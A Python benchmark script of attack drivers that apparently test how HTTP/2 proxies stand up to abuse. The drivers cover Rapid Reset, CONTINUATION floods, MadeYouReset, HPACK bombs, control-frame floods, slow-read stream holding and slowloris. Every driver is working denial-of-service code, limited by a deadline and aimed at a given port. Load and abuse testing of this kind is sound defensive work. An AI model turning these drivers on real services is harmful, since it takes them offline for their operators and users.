#!/usr/bin/python3
"""Attack drivers of the abuse bench: each one runs for a bounded time against
a proxy's port and prints, as one JSON line, what it sent and what the proxy
did to it (connections it ended, GOAWAY and RST_STREAM codes seen).

Usage: attacks.py NAME PORT SECONDS [--conns N]
Every driver stops at its deadline, whatever the proxy does; a connection the
proxy ends is replaced by a new one (at most one new connection per 2 ms, so
a proxy that closes at once is not hammered by connects alone).
"""
import argparse
import json
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h2raw import (CONTINUATION, DATA, S_HEADER_TABLE_SIZE, S_INITIAL_WINDOW_SIZE, S_MAX_CONCURRENT_STREAMS,  # noqa
                   PREFACE, Conn, call, frame, grpc_msg, headers, indexed, lit, lit_incremental, ping,
                   raise_nofile, request_block, rst, settings, table_size_update, window_update)

MAX_QUEUED = 256 * 1024     # bytes a driver queues on a connection the kernel does not take
MAX_SID = 2 ** 31 - 1000    # a connection is replaced before its stream ids run out
IN_FLIGHT = 90              # calls a driver keeps open on a connection (peers advertise 100)


def count(stats, key, n=1):
    stats[key] = stats.get(key, 0) + n


def fresh(port, stats, **kw):
    """A new connection, or None when the proxy refuses one (counted)."""
    time.sleep(0.002)
    try:
        return Conn(port, stats, **kw)
    except OSError as e:
        count(stats, "connect_failed: " + type(e).__name__)
        time.sleep(0.05)
        return None


def sent_units(stats, key, unit_len):
    """How many units of unit_len bytes the kernel took (the preface and
    SETTINGS are counted too: a few bytes against megabytes). Counting what
    was queued would count what a reset connection never sent."""
    stats[key] = stats.get("bytes_sent", 0) // unit_len


def push(c, data, wait=0.02):
    """Sends data unless the connection already has MAX_QUEUED bytes the
    kernel would not take (then only flushes). Returns True if data was queued."""
    if c.pending() >= MAX_QUEUED:
        c.send(b"", wait)
        return False
    c.send(data, wait)
    return True


class Pool:
    """n connections kept alive: one that the proxy ends is replaced."""

    def __init__(self, port, stats, n=1, **kw):
        self.port, self.stats, self.kw = port, stats, kw
        self.conns = [None] * n

    def each(self):
        for i, c in enumerate(self.conns):
            if c is None or c.closed or c.next_sid > MAX_SID:
                if c is not None and not c.closed:
                    c.close()
                c = self.conns[i] = fresh(self.port, self.stats, **self.kw)
                if c is None:
                    continue
                c.fresh = True
            yield c


def run(deadline, pool, step):
    while time.monotonic() < deadline:
        for c in pool.each():
            step(c)
            c.fresh = False


# ---- HTTP/2 request floods ----

def rapid_reset(port, seconds, stats, conns=1):
    """HEADERS then RST_STREAM(CANCEL), 100 streams per write (CVE-2023-44487)."""
    pool = Pool(port, stats, conns)
    block = request_block()

    def step(c):
        sids = [c.sid() for _ in range(100)]
        push(c, b"".join(headers(s, block) + rst(s) for s in sids))
        c.poll()

    run(time.monotonic() + seconds, pool, step)
    sent_units(stats, "streams_reset", len(headers(1, block) + rst(1)))


def continuation_flood(port, seconds, stats, conns=1):
    """HEADERS without END_HEADERS, then CONTINUATION frames of ~1 KiB of
    header fields without end (CVE-2024-27316 family)."""
    pool = Pool(port, stats, conns)
    cont = None

    def step(c):
        nonlocal cont
        if c.fresh:
            c.block_sid = c.sid()
            c.send(headers(c.block_sid, request_block(), end_headers=False))
        cont = frame(CONTINUATION, 0, c.block_sid, lit("x-c", "v" * 100) * 9)
        push(c, cont * 16)
        c.poll()

    run(time.monotonic() + seconds, pool, step)
    if cont:
        sent_units(stats, "continuation_frames", len(cont))


def reset_window_update_0(port, seconds, stats, conns=1):
    """MadeYouReset (CVE-2025-8671): HEADERS, then WINDOW_UPDATE with increment
    0 on the stream, which the proxy must answer by resetting the stream."""
    pool = Pool(port, stats, conns)
    block = request_block()

    def step(c):
        sids = [c.sid() for _ in range(50)]
        push(c, b"".join(headers(s, block) + window_update(s, 0) for s in sids))
        c.poll()

    run(time.monotonic() + seconds, pool, step)
    sent_units(stats, "streams_provoked", len(headers(1, block) + window_update(1, 0)))


def reset_window_overflow(port, seconds, stats, conns=1):
    """MadeYouReset: WINDOW_UPDATE that takes the stream's send window past
    2^31-1 (a stream FLOW_CONTROL_ERROR the proxy must raise itself)."""
    pool = Pool(port, stats, conns)
    block = request_block()

    def step(c):
        sids = [c.sid() for _ in range(50)]
        push(c, b"".join(headers(s, block) + window_update(s, 0x7FFFFFFF) for s in sids))
        c.poll()

    run(time.monotonic() + seconds, pool, step)
    sent_units(stats, "streams_provoked", len(headers(1, block) + window_update(1, 0)))


def reset_data_over_window(port, seconds, stats, conns=1):
    """MadeYouReset: DATA one byte past the stream's window (the window the
    proxy advertised), staying inside the connection window."""
    pool = Pool(port, stats, conns)
    block = request_block()

    def step(c):
        if c.fresh:
            c.wait_settings()
            c.stall_since = None
        window = c.peer_settings.get(S_INITIAL_WINDOW_SIZE, 65535)
        need = window + 1
        c.poll()
        if c.conn_window < need or c.pending() >= MAX_QUEUED:
            c.stall_since = c.stall_since or time.monotonic()
            if time.monotonic() - c.stall_since > 0.5:  # the proxy keeps its connection window: next connection
                count(stats, "conn_window_stalled")
                c.close()
            c.send(b"", 0.01)
            return
        c.stall_since = None
        sid = c.sid()
        out = [headers(sid, block)]
        left = need
        while left:
            n = min(16384, left)
            out.append(frame(DATA, 0, sid, b"\0" * n))
            left -= n
        c.conn_window -= need
        c.send(b"".join(out), 0.02)
        count(stats, "streams_provoked")

    run(time.monotonic() + seconds, pool, step)


# ---- control-frame floods from a client that does not read ----

def _flood(port, seconds, stats, unit, per_write=1000, setup=b"", read=False, conns=1):
    pool = Pool(port, stats, conns, rcvbuf=4096)
    batch = unit * per_write

    def step(c):
        if c.fresh and setup:
            c.send(setup)
        push(c, batch)
        if read:
            c.poll()

    run(time.monotonic() + seconds, pool, step)
    sent_units(stats, "frames_sent", len(unit))


def ping_flood(port, seconds, stats, conns=1):
    """PING frames as fast as the proxy reads them; the ACKs are never read."""
    _flood(port, seconds, stats, ping(), conns=conns)


def settings_flood(port, seconds, stats, conns=1):
    """SETTINGS frames (each wants an ACK); the ACKs are never read."""
    _flood(port, seconds, stats, settings([(S_MAX_CONCURRENT_STREAMS, 100)]), conns=conns)


def empty_data_flood(port, seconds, stats, conns=1):
    """Empty DATA frames on an open stream (CVE-2019-9518); never reads."""
    _flood(port, seconds, stats, frame(DATA, 0, 1, b""), setup=headers(1, request_block()), conns=conns)


def unknown_frame_flood(port, seconds, stats, conns=1):
    """Frames of an unknown type (0x77, 8-byte payload), which HTTP/2 says to
    ignore; this client reads what comes back."""
    _flood(port, seconds, stats, frame(0x77, 0, 0, b"\0" * 8), read=True, conns=conns)


# ---- HPACK ----

def _calls(port, seconds, stats, make_call, conns=1, client_settings=()):
    """Calls from make_call(c, sid) as fast as the proxy answers them, at
    most IN_FLIGHT open per connection; a connection with no answer for 2 s
    is replaced."""
    pool = Pool(port, stats, conns, client_settings=client_settings)

    def step(c):
        if c.fresh:
            c.opened = 0
            c.progress = time.monotonic()
        ended = c.ended
        c.poll()
        if c.ended != ended:
            c.progress = time.monotonic()
        if c.opened - c.ended >= IN_FLIGHT or c.pending() >= MAX_QUEUED:
            if time.monotonic() - c.progress > 2:
                count(stats, "conn_stalled_replaced")
                c.close()
            else:
                c.send(b"", 0.005)
            return
        for _ in range(min(10, IN_FLIGHT - (c.opened - c.ended))):
            c.send(make_call(c, c.sid()))
            c.opened += 1
            count(stats, "calls_sent")

    run(time.monotonic() + seconds, pool, step)


def hpack_many_fields(port, seconds, stats, conns=1):
    """One 16 KiB HEADERS frame per call holding ~16,000 one-byte references to
    a dynamic-table entry `a: b` (F2: each field costs the proxy far more
    than its byte)."""
    base = request_block()
    refs = 16384 - 16 - len(base)

    def make(c, sid):
        first = b"" if getattr(c, "seeded", False) else lit_incremental("a", "b")
        c.seeded = True
        block = base + first + indexed(62) * (refs - len(first))
        return headers(sid, block) + frame(DATA, 1, sid, grpc_msg())

    _calls(port, seconds, stats, make, conns)


def hpack_bomb(port, seconds, stats, conns=1):
    """A 4,000-byte header enters the dynamic table once; each call's 16 KiB
    block then references it ~16,000 times: 64 MB of headers per block."""
    base = request_block()
    refs = 16384 - 16 - len(base)
    seed = lit_incremental("x-b", "v" * 4000)

    def make(c, sid):
        first = b"" if getattr(c, "seeded", False) else seed
        c.seeded = True
        block = base + first + indexed(62) * (refs - len(first))
        return headers(sid, block) + frame(DATA, 1, sid, grpc_msg())

    _calls(port, seconds, stats, make, conns)


def hpack_table_churn(port, seconds, stats, conns=1):
    """Every block shrinks the dynamic table to 0 and back, then inserts three
    new 1.3 KB fields (each evicting the last); every 20 calls, SETTINGS
    changes the proxy's own encoder table between 0 and 4096."""
    base = request_block()

    def make(c, sid):
        c.n = getattr(c, "n", 0) + 1
        out = b""
        if c.n % 20 == 0:
            out = settings([(S_HEADER_TABLE_SIZE, 0 if c.n % 40 else 4096)])
        block = table_size_update(0) + table_size_update(4096) + base + b"".join(
            lit_incremental("x-churn-%d-%d" % (sid, k), "v" * 1300) for k in range(3))
        return out + headers(sid, block) + frame(DATA, 1, sid, grpc_msg(b"churn"))

    _calls(port, seconds, stats, make, conns)


def oversized_headers(port, seconds, stats, conns=1):
    """Calls with a 12 KiB header: under every proxy's own request limit, over
    the 8 KiB SETTINGS_MAX_HEADER_LIST_SIZE the backend advertises."""
    extra = lit("x-big", "a" * 12000)

    def make(c, sid):
        return call(sid, b"big", extra=extra)

    _calls(port, seconds, stats, make, conns)


# ---- slow readers ----

def _hold_streams(port, seconds, stats, conns, per_conn, read):
    """conns connections, each with per_conn server-streaming calls that would
    send 16 KiB messages without end; reads (window 0) or does not."""
    body = json.dumps({"count": 1000000, "size": 16384}).encode()
    cs = []
    deadline = time.monotonic() + seconds
    for _ in range(conns):
        if read:
            c = fresh(port, stats, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)])
        else:
            c = fresh(port, stats, rcvbuf=4096, client_settings=[(S_INITIAL_WINDOW_SIZE, 0x7FFFFFFF)])
        if c is None:
            continue
        c.wait_settings()  # then ACKed; a non-reader reads nothing more
        if not read:
            c.send(window_update(0, 0x7FFFFFFF - 65535))
        for _ in range(per_conn):
            c.send(call(c.sid(), body, path="/bench.Echo/ServerStream"), 0.1)
            count(stats, "streams_held")
        cs.append(c)
    while time.monotonic() < deadline:
        time.sleep(0.1)
        if read:
            for c in cs:
                c.poll()
    for c in cs:
        if read:
            c.poll()
        if c.closed:
            count(stats, "holders_ended_by_proxy")


def slow_read_window0(port, seconds, stats, conns=4):
    """4 clients x 100 server streams with SETTINGS_INITIAL_WINDOW_SIZE 0 and
    no WINDOW_UPDATE ever: they read the socket but let nothing in."""
    _hold_streams(port, seconds, stats, conns, 100, read=True)


def slow_read_noread(port, seconds, stats, conns=4):
    """4 clients x 100 server streams with 2 GiB windows and a socket that is
    never read after the SETTINGS."""
    _hold_streams(port, seconds, stats, conns, 100, read=False)


# ---- slowloris and idle connections ----

def _open_many(port, stats, n, deadline, **kw):
    cs = []
    while len(cs) < n and time.monotonic() < deadline:
        try:
            cs.append(Conn(port, stats, **kw))
        except OSError as e:
            count(stats, "connect_failed: " + type(e).__name__)
            time.sleep(0.01)
    stats["open_at_peak"] = len(cs)
    return cs


def _trickle(port, seconds, stats, conns, head, tail_bytes, h2=True, handshake=False):
    """conns connections: each sends head at once (with handshake: the
    preface and SETTINGS, then waits for the proxy's SETTINGS and ACKs them),
    then one byte of tail every interval, so that tail is never complete
    before the deadline. They read what comes but answer nothing more: an
    answer would land inside the frame being trickled."""
    deadline = time.monotonic() + seconds
    cs = _open_many(port, stats, conns, deadline, preface=handshake)
    for c in cs:
        c.h2 = h2
        if handshake:
            c.wait_settings()
        c.send(head)
        c.pos = 0
    interval = seconds / max(1, min(40, len(tail_bytes) - 2))
    while time.monotonic() < deadline:
        for c in cs:
            if not c.closed and c.pos < len(tail_bytes) - 1:
                c.send(tail_bytes[c.pos:c.pos + 1])
                c.pos += 1
                count(stats, "bytes_trickled")
            c.poll(answer=False)
        time.sleep(interval)
    stats["ended_by_proxy"] = sum(1 for c in cs if c.closed or not c.poll(answer=False))


def slowloris_preface(port, seconds, stats, conns=500):
    """500 connections sending the HTTP/2 preface a byte at a time."""
    _trickle(port, seconds, stats, conns, b"", PREFACE)


def slowloris_h2_headers(port, seconds, stats, conns=500):
    """500 connections: preface and SETTINGS at once, then a HEADERS frame a byte at a time."""
    block = request_block(extra=b"".join(lit("x-s-%d" % i, "slow") for i in range(10)))
    _trickle(port, seconds, stats, conns, b"", headers(1, block), handshake=True)


def slowloris_h1_headers(port, seconds, stats, conns=500):
    """500 HTTP/1.1 connections sending the request head a byte at a time
    (the bench runs this against listeners that accept HTTP/1.1)."""
    head = b"POST /bench.Echo/Unary HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    tail = b"Content-Type: application/grpc-web+proto\r\nX-Slow-1: aaaaaaaa\r\nX-Slow-2: bbbbbbbb\r\n\r\n"
    _trickle(port, seconds, stats, conns, head, tail, h2=False)


def idle_connections(port, seconds, stats, conns=4000):
    """4,000 HTTP/2 connections opened as fast as the proxy accepts them, then
    idle: they answer SETTINGS and PING, as real clients do, and send nothing else."""
    deadline = time.monotonic() + seconds
    t0 = time.monotonic()
    cs = _open_many(port, stats, conns, deadline)
    stats["open_seconds"] = round(time.monotonic() - t0, 2)
    while time.monotonic() < deadline:
        for c in cs:
            c.poll()
        time.sleep(0.25)
    stats["ended_by_proxy"] = sum(1 for c in cs if c.closed or not c.poll())


ATTACKS = {f.__name__: f for f in (
    rapid_reset, continuation_flood, reset_window_update_0, reset_window_overflow, reset_data_over_window,
    ping_flood, settings_flood, empty_data_flood, unknown_frame_flood, hpack_many_fields, hpack_bomb,
    hpack_table_churn, oversized_headers, slow_read_window0, slow_read_noread, slowloris_preface,
    slowloris_h2_headers, slowloris_h1_headers, idle_connections)}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("name", choices=sorted(ATTACKS))
    ap.add_argument("port", type=int)
    ap.add_argument("seconds", type=float)
    ap.add_argument("--conns", type=int, default=0, help="connections (0: the driver's own default)")
    a = ap.parse_args()
    raise_nofile()
    stats = {}
    t0 = time.monotonic()
    kw = {"conns": a.conns} if a.conns else {}
    try:
        ATTACKS[a.name](a.port, a.seconds, stats, **kw)
    except Exception as e:  # a driver bug must not hide the row: report it
        stats["driver_error"] = "%s: %s" % (type(e).__name__, e)
    stats["elapsed"] = round(time.monotonic() - t0, 2)
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    main()
